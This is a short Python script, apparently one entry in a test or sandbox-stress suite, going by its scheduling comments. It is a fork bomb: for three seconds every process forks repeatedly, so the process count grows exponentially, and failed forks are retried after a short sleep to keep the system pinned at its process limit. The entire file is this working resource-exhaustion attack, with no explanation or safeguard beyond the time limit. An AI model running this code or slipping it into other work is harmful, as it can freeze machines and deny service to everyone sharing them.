"""Processes that make processes."""
# places: last
# alone: yes

import os, time

end = time.monotonic() + 3
while time.monotonic() < end:
    try:
        os.fork()
    except OSError:
        time.sleep(0.05)
